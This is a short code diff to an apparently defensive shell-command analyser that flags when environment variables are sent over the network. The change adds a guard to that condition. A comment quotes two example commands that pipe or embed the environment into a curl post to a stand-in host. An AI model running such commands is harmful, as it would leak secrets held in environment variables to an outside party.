@@ -115,7 +115,9 @@ def _link_effects(commands: list[Command]) -> None:
         if (socket and is_interpreter(program)) or attached:
             found.append(effectmod.effect("exec", program, via, source="network", certainty="unknown"))
         sending = any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
-        if sending and (set(cmd.stdin_from + fact.get("_inputs", [])) & printing or dumps & _sent_files(fact)):
+        if sending and (
+            set(cmd.stdin_from + fact.get("_inputs", [])) & printing or (dumps and dumps & _sent_files(fact))
+        ):
             # `env | curl -d @- https://x`, `curl -d "$(env)" https://x`: the environment leaves
             found.append(effectmod.effect("credential", "env", via, certainty="unknown"))
 
